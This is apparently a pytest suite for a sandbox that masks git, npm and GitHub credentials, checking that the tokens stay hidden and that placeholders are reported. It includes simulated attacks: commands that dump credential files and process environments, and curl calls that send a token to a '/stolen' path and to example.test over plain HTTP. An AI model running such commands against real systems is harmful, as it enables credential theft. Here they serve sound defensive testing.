"""Ground truth for masked credentials: real commands (git, curl, npm) in the real bubblewrap
sandbox reach a loopback HTTPS server with its own certificate standing for github.com and
registry.npmjs.org (a test resolver maps those names to 127.0.0.1; the proxy checks that
server against the test's CA). The server must receive the real token; inside the sandbox
only placeholders are seen; a placeholder sent to another host stays a placeholder and is
reported; the real token's bytes are in no output, event, note or file we can scan."""

from __future__ import annotations

import ipaddress
import os
import shutil
import subprocess
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from codingcode.sandbox.credentials.settings import CredentialSpec
from codingcode.sandbox.network.addresses import IPAddress
from codingcode.sandbox.network.domains import DomainPolicy
from codingcode.sandbox.network.proxy import ConnectionEvent, NetworkProxy
from codingcode.sandbox.policy import BackendChoice, Network, SandboxPolicy
from codingcode.sandbox.service import SandboxService
from tests.sandbox.conftest import Box, needs_bwrap, out
from tests.sandbox.network.server import LoggingServer
from tests.sandbox.network.tls_server import TLSServer, UpstreamCA

GH_TOKEN = "ghp_" + "R3alT0kenGitHub" * 2 + "abcdefg1"  # 4 + 37 characters
NPM_TOKEN = "npm_" + "NpmRealToken0123456789" + "abcdefghijklmn"
GIT_TOKEN = "ghp_" + "GitCredsRealValue" * 2 + "xyz"
REAL = [GH_TOKEN, NPM_TOKEN, GIT_TOKEN]
LOOPBACK = ipaddress.ip_address("127.0.0.1")
NAMES = ("github.com", "registry.npmjs.org", "example.test")


async def resolver(host: str, port: int) -> list[IPAddress]:
    if host in NAMES or host == "localhost":
        return [LOOPBACK]
    raise OSError(f"{host}: no such name (test resolver)")


@pytest.fixture
def world(project: Path) -> Iterator[dict[str, Any]]:
    # Every file changed from here on (status change time: no copy that keeps a file's
    # modification time hides from it) is what a search for leaked values must read.
    since = project / ".world-start"
    since.touch()
    before = time.time() - 2
    os.utime(since, (before, before))
    scratch = Path(tempfile.mkdtemp(prefix="codingcode-creds-", dir="/var/tmp")).resolve()
    home = scratch / "home"
    home.mkdir()
    ca = UpstreamCA(scratch / "ca", ("github.com", "registry.npmjs.org"))
    git_root = scratch / "srv"
    git_root.mkdir()
    subprocess.run(["git", "init", "-q", "--bare", str(git_root / "repo.git")], check=True)
    subprocess.run(
        ["git", "-C", str(git_root / "repo.git"), "config", "http.receivepack", "true"],
        check=True,
    )
    with TLSServer(ca, token=GIT_TOKEN, git_root=git_root) as srv, LoggingServer() as plain:
        port = srv.port
        (home / ".git-credentials").write_text(
            f"https://x-access-token:{GIT_TOKEN}@github.com:{port}\n"
        )
        (home / ".gitconfig").write_text(
            "[credential]\n\thelper = store\n[user]\n\tname = T\n\temail = t@example.test\n"
            "[init]\n\tdefaultBranch = main\n"
        )
        (home / ".npmrc").write_text(
            f"registry=https://registry.npmjs.org:{port}/\n"
            f"//registry.npmjs.org:{port}/:_authToken={NPM_TOKEN}\n"
        )
        env = {"HOME": str(home), "GITHUB_TOKEN": GH_TOKEN, "GIT_TERMINAL_PROMPT": "0"}
        subprocess.run(["git", "init", "-q", str(project)], check=True, env={**os.environ, **env})
        (project / "README").write_text("hello\n")
        subprocess.run(
            ["git", "-C", str(project), "add", "README"], check=True, env={**os.environ, **env}
        )
        subprocess.run(
            ["git", "-C", str(project), "commit", "-qm", "one"],
            check=True,
            env={**os.environ, **env},
        )
        policy = SandboxPolicy(
            project=project,
            backend=BackendChoice.BUBBLEWRAP,
            network=Network.LIMITED,
            domains=DomainPolicy(allowed=NAMES, allow_local=True),
            credentials=(
                CredentialSpec("file", "~/.git-credentials", "mask", ("github.com",)),
                CredentialSpec("file", "~/.npmrc", "mask", ("registry.npmjs.org",)),
                CredentialSpec("env", "GITHUB_TOKEN", "mask", ("github.com",)),
            ),
            tls_terminate=True,
        )
        service = SandboxService.from_policy(policy)
        service.network_proxy = NetworkProxy(
            resolver=resolver, connect_timeout_s=5, upstream_context=ca.client_context()
        )
        events: list[ConnectionEvent] = []
        service.network_sink = events.extend
        try:
            yield {
                "box": Box(service, project),
                "since": since,
                "env": env,
                "srv": srv,
                "plain": plain,
                "port": port,
                "events": events,
                "home": home,
                "scratch": scratch,
                "git_root": git_root,
                "service": service,
            }
        finally:
            service.close()
            shutil.rmtree(scratch, ignore_errors=True)


def _no_real_value(*texts: str | bytes) -> None:
    for text in texts:
        data = text if isinstance(text, bytes) else text.encode()
        for real in REAL:
            assert real.encode() not in data, "a real token leaked"


def _scan_tree(root: Path, skip: set[Path] = frozenset()) -> None:  # type: ignore[assignment]
    for dirpath, _dirs, files in os.walk(root):
        if any(Path(dirpath).is_relative_to(s) for s in skip):
            continue
        for name in files:
            path = Path(dirpath) / name
            try:
                _no_real_value(path.read_bytes())
            except (OSError, AssertionError) as exc:
                if isinstance(exc, AssertionError):
                    raise AssertionError(f"a real token is in {path}") from None


@needs_bwrap
def test_git_push_curl_and_npm_get_the_real_token_commands_see_placeholders(
    world: dict[str, Any],
) -> None:
    box: Box = world["box"]
    env, port, srv = world["env"], world["port"], world["srv"]
    r = box.run(
        f"git push -q https://github.com:{port}/git/repo.git HEAD:main 2>&1; echo push=$?",
        env=env,
        timeout_s=60,
    )
    assert "push=0" in out(r), out(r)
    pushed = subprocess.run(
        ["git", "-C", str(world["git_root"] / "repo.git"), "log", "--format=%s", "main"],
        capture_output=True,
        text=True,
    )
    assert pushed.stdout.strip() == "one"
    git_auth = [x.authorization for x in srv.received if x.path.startswith("/git/")]
    assert any(a.startswith("Basic ") for a in git_auth)

    r2 = box.run(
        f'curl -sS -m 20 -H "Authorization: Bearer $GITHUB_TOKEN" https://github.com:{port}/api',
        env=env,
    )
    assert r2.exit_code == 0, out(r2)
    assert srv.received[-1].authorization == f"Bearer {GH_TOKEN}"

    r3 = box.run(
        f"npm whoami --registry https://registry.npmjs.org:{port}/ >/dev/null 2>&1; "
        f"curl -sS -m 20 -H \"Authorization: Bearer $(sed -n 's/.*_authToken=//p' ~/.npmrc)\" "
        f"https://registry.npmjs.org:{port}/-/npm/v1/user",
        env=env,
        timeout_s=60,
    )
    assert srv.received[-1].path == "/-/npm/v1/user", out(r3)
    assert srv.received[-1].authorization == f"Bearer {NPM_TOKEN}"
    npm_seen = [x.authorization for x in srv.received if x.path == "/-/whoami"]
    assert npm_seen == [f"Bearer {NPM_TOKEN}"], npm_seen

    # The injection is audited: which credential, for which host.
    texts = [e.reason for e in world["events"] if e.setting == "sandbox.credentials"]
    assert "GITHUB_TOKEN injected for github.com" in texts
    assert "~/.git-credentials injected for github.com" in texts
    assert "~/.npmrc injected for registry.npmjs.org" in texts
    _no_real_value(out(r), out(r2), out(r3), r.notice, r2.notice, r3.notice)
    _no_real_value(*(repr(e.to_json()) for e in world["events"]))


@needs_bwrap
def test_inside_the_sandbox_only_placeholders_are_seen(world: dict[str, Any]) -> None:
    box: Box = world["box"]
    home = world["home"]
    script = (
        "cat ~/.git-credentials ~/.npmrc; env; printenv GITHUB_TOKEN; "
        "tr '\\0' '\\n' < /proc/self/environ; cat /proc/1/environ 2>/dev/null | tr '\\0' '\\n'"
    )
    r = box.run(script, env=world["env"])
    text = out(r)
    # A grep of the whole file system as the command sees it (the kernel's /proc, /sys and
    # /dev aside), of every file created or changed since the world was set up (whatever
    # wrote a value, it changed a file then; the rest of the host's tree, read by a grep,
    # took most of a minute): no file holds a real value.
    grep = box.run(
        r"find / \( -path /proc -o -path /sys -o -path /dev \) -prune -o -type f "
        f"-cnewer {world['since']} -print0 2>/dev/null"
        f" | xargs -0r grep -FIl -s -e {GH_TOKEN} -e {NPM_TOKEN} -e {GIT_TOKEN};"
        " echo grep-exit=$?",
        env=world["env"],
        timeout_s=280,
    )
    found = grep.stdout.text()
    assert not grep.timed_out, "the grep of the file system did not finish"
    # Only the exit line: no file name printed (xargs: 0 no file to read, 123 a grep that
    # found nothing or could not read a file).
    lines = found.strip().splitlines()
    assert len(lines) == 1 and lines[0] in ("grep-exit=0", "grep-exit=123"), found[-3000:]
    _no_real_value(text, r.notice)
    # The placeholders are there, of the same shape.
    lines = text.splitlines()
    cred = next(x for x in lines if x.startswith("https://x-access-token:"))
    placeholder = cred.split(":")[2].split("@")[0]
    assert placeholder.startswith("ghp_") and len(placeholder) == len(GIT_TOKEN)
    assert placeholder != GIT_TOKEN
    env_line = next(x for x in lines if x.startswith("GITHUB_TOKEN="))
    assert len(env_line) == len("GITHUB_TOKEN=") + len(GH_TOKEN)
    # The same placeholder for the whole session.
    again = box.run("printenv GITHUB_TOKEN; cat ~/.git-credentials", env=world["env"])
    assert env_line.split("=", 1)[1] in out(again) and placeholder in out(again)
    assert (home / ".git-credentials").read_text().count(GIT_TOKEN) == 1  # untouched


@needs_bwrap
def test_a_placeholder_sent_elsewhere_stays_a_placeholder_and_is_reported(
    world: dict[str, Any],
) -> None:
    box: Box = world["box"]
    port, srv, plain = world["port"], world["srv"], world["plain"]
    r = box.run(
        f'curl -sS -m 20 -H "Authorization: Bearer $GITHUB_TOKEN" '
        f"https://registry.npmjs.org:{port}/stolen; "
        f'curl -sS -m 20 -d "t=$GITHUB_TOKEN" http://example.test:{plain.port}/plain; '
        "printenv GITHUB_TOKEN",
        env=world["env"],
    )
    placeholder = out(r).strip().splitlines()[-1]
    assert srv.received[-1].path == "/stolen"
    assert srv.received[-1].authorization == f"Bearer {placeholder}"
    assert plain.paths() == ["/plain"]
    assert "GITHUB_TOKEN's placeholder sent to registry.npmjs.org: not replaced" in r.notice
    assert "GITHUB_TOKEN's placeholder sent to example.test over plain HTTP" in r.notice
    texts = [e.reason for e in world["events"] if not e.allowed]
    assert any("placeholder sent to registry.npmjs.org" in t for t in texts)
    _no_real_value(out(r), r.notice)


@needs_bwrap
def test_nothing_leaks_into_files_and_the_ca_key_is_nowhere(world: dict[str, Any]) -> None:
    box: Box = world["box"]
    port = world["port"]
    r = box.run(
        f'curl -sS -m 20 -H "Authorization: Bearer $GITHUB_TOKEN" https://github.com:{port}/echo',
        env=world["env"],
    )
    # The server echoed the real value back: the command saw its placeholder.
    assert world["srv"].received[-1].authorization == f"Bearer {GH_TOKEN}"
    _no_real_value(out(r), r.notice)
    assert out(r).startswith("Bearer ghp_")
    service: SandboxService = world["service"]
    _scan_tree(service.masks.root)
    _scan_tree(world["box"].project, skip={world["box"].project / ".git" / "objects"})
    # The session CA's key is in no file of the sandbox's own directories.
    for dirpath, _d, files in os.walk(service.masks.root):
        for name in files:
            p = Path(dirpath) / name
            if os.access(p, os.R_OK):
                assert b"PRIVATE KEY" not in p.read_bytes()


@needs_bwrap
def test_invalid_server_certificate_and_a_pinning_client_are_one_clear_line(
    world: dict[str, Any],
) -> None:
    box: Box = world["box"]
    port, srv = world["port"], world["srv"]
    # A client trusting only the server's own CA (as a pinning client does) refuses ours.
    ca_pem = world["scratch"] / "ca" / "ca.pem"
    r = box.run(
        f'curl -sS -m 20 --cacert {ca_pem} -H "Authorization: Bearer $GITHUB_TOKEN" '
        f"https://github.com:{port}/pinned",
        env=world["env"],
    )
    assert r.exit_code != 0
    assert "refused the sandbox's certificate for github.com" in r.notice
    assert all(x.path != "/pinned" for x in srv.received)
    # A server the system does not trust gets nothing: the proxy checks it with the system's
    # trust store here (the test CA is not in it).
    world["service"].network_proxy.upstream_context = None
    r2 = box.run(
        f'curl -sS -m 20 -H "Authorization: Bearer $GITHUB_TOKEN" https://github.com:{port}/bad',
        env=world["env"],
    )
    assert r2.exit_code != 0
    assert "github.com's certificate could not be verified" in r2.notice
    assert all(x.path != "/bad" for x in srv.received)
    assert r.notice.count("\n") <= 2 and "Traceback" not in out(r2) + r2.notice
    _no_real_value(out(r), out(r2), r.notice, r2.notice)


@needs_bwrap
def test_a_large_upload_with_expect_continue_and_a_token_in_the_url(
    world: dict[str, Any],
) -> None:
    """curl sends ``Expect: 100-continue`` for a body over 1 MB; the placeholder sits across
    the body and in the query string: the server gets the real value in both, and the body
    is otherwise intact."""
    box: Box = world["box"]
    port, srv = world["port"], world["srv"]
    r = box.run(
        "python3 -c \"import os,sys; t=os.environ['GITHUB_TOKEN'].encode(); "
        "sys.stdout.buffer.write(b'a'*1500000 + t + b'b'*1500000 + t)\" > /tmp/body; "
        f'curl -sS -m 60 -T /tmp/body "https://github.com:{port}/up?access_token=$GITHUB_TOKEN"',
        env=world["env"],
        timeout_s=90,
    )
    assert r.exit_code == 0, out(r)
    got = srv.received[-1]
    assert got.method == "PUT" and got.path == f"/up?access_token={GH_TOKEN}"
    expected = b"a" * 1500000 + GH_TOKEN.encode() + b"b" * 1500000 + GH_TOKEN.encode()
    assert got.body == expected
    _no_real_value(out(r), r.notice)
